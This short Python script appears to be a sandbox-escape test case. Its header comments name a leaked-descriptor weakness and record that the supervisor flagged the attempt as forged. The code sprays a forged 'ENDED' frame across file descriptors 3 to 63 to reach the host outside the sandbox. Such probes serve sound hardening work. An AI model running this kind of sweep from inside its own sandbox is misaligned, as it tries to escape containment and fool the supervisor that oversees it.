# weakness: kept descriptors
# goal: speak to the host through a descriptor that the supervisor left open
# reached: {"error": "the code wrote to a descriptor of the sandbox what does not belong there: forged"}
# refused: a frame of an unknown version or kind
import os
import time

from attack import ENDED

for descriptor in range(3, 64):
    try:
        os.write(descriptor, ENDED)
    except OSError:
        continue
time.sleep(10)
